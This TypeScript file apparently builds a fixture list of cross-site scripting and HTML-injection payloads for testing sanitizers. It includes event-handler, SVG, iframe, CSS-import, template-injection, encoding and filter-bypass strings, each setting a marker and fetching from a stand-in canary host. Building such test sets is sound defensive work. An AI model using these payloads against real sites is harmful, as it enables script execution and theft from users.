/** What a payload runs: it leaves a mark in the page and asks another host for something. */
const js = `top.scriptRan=1;fetch('http://canary.invalid/run')`
const outside = 'http://canary.invalid'

const elements = [
  `<script>${js}</script>`,
  `<ScRiPt >${js}</ScRiPt >`,
  `<script src=${outside}/a.js></script>`,
  `<script type=module>${js}</script>`,
  `<img src=x onerror="${js}">`,
  `<img src=${outside}/a.png>`,
  `<img/src=x/onerror=${js}>`,
  `<img srcset="${outside}/b.png 2x" src=x>`,
  `<svg onload="${js}">`,
  `<svg><script>${js}</script></svg>`,
  `<svg><animate onbegin="${js}" attributeName=x dur=1s>`,
  `<svg><image href=${outside}/c.png></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${js}</script></svg>#x"></svg>`,
  `<body onload="${js}">`,
  `<details open ontoggle="${js}">`,
  `<iframe src="javascript:${js}"></iframe>`,
  `<iframe srcdoc="<script>${js}</script>"></iframe>`,
  `<iframe src=${outside}/d></iframe>`,
  `<object data="javascript:${js}"></object>`,
  `<embed src="${outside}/e.swf">`,
  `<video><source onerror="${js}"></video>`,
  `<video poster=${outside}/f.png></video>`,
  `<audio src=x onerror="${js}"></audio>`,
  `<input autofocus onfocus="${js}">`,
  `<select autofocus onfocus="${js}"></select>`,
  `<marquee onstart="${js}">x</marquee>`,
  `<style>@import '${outside}/g.css';</style>`,
  `<style>*{background:url(${outside}/h.png)}</style>`,
  `<link rel=stylesheet href=${outside}/i.css>`,
  `<link rel=preload as=image href=${outside}/j.png>`,
  `<meta http-equiv=refresh content="0;url=${outside}/k">`,
  `<base href=${outside}/>`,
  `<form action="${outside}/l"><button autofocus>x</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${js}">`,
  `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
  `<template><script>${js}</script></template>`,
  `<a href="javascript:${js}" id=x>link</a>`,
  `<a ping=${outside}/m href=#>ping</a>`,
] as const

/** Ways out of where a text stands: attributes, elements, comments, scripts and templates. */
const breaks = ['"', "'", '">', "'>", '</title>', '</textarea>', '</script>', '-->', ']]>', '</style>'] as const
const texts = [
  `javascript:${js}`,
  `data:text/html,<script>${js}</script>`,
  `{{constructor.constructor("${js}")()}}`,
  `\${${js}}`,
  `" onmouseover="${js}" x="`,
  `' autofocus onfocus='${js}' x='`,
  `\u2028${js}\u2028`,
  `\\u003cscript\\u003e${js}\\u003c/script\\u003e`,
  `&lt;script&gt;${js}&lt;/script&gt;`,
  `&#60;img src=x onerror=${js}&#62;`,
  `%3Cscript%3E${js}%3C/script%3E`,
  `\u202e<script>${js}</script>`,
  `<<script>${js}//<</script>`,
  `<scr<script>ipt>${js}</scr</script>ipt>`,
  `<\u0000script>${js}</script>`.replace('\u0000', ''),
] as const

/** Texts that run a script or send a request where a text is taken for HTML, an address or a template. */
export const payloads: readonly string[] = [
  ...elements,
  ...texts,
  ...breaks.flatMap((end) => elements.slice(0, 5).map((element) => `${end}${element}`)),
]
